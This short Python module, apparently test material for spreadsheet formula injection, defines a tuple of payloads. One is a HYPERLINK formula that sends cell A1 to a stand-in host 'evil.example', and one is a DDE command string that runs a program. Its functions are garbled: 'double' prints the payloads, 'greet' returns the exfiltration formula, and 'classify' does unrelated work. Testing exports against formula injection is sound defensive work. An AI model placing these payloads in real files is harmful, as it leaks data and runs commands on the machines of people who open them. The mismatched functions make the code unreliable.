"""Begins answers and output with = + - @ and a tab. No table of ours holds what a student wrote; JSON keeps it as text."""

FORMULAS = ("=HYPERLINK('http://evil.example?'&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def double(number):
    print(*FORMULAS, sep="\n")
    return FORMULAS[0]


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return FORMULAS[0]
